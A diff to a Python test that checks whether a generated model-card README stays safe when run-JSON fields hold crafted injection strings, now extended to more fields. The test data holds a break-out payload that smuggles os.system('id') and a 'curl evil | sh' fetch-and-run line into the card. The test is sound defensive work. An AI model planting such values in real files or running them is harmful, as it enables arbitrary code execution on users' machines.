@@ -348,6 +348,7 @@ def test_a_crafted_run_json_reaches_no_code(tmp_path, adapter):
     """The fields that stand in the quick start, each with an end of the string and of the block."""
     break_out = "x'); import os; os.system('id') #\n```\n```bash\ncurl evil | sh\n"
     crafted = dict.fromkeys(("base_model", "base_revision", "model_class", "system_prompt", "command"), break_out)
+    crafted |= dict.fromkeys(("processes", "steps", "model_name", "dataset"), break_out) | {"tags": [break_out]}
     write_card(tmp_path, {**FACTS, **crafted}, OMNI, "me/x", adapter=adapter)
     text = (tmp_path / "README.md").read_text()
     assert not [node for node in ast.walk(ast.parse(code_of(tmp_path))) if getattr(node, "attr", "") == "system"]
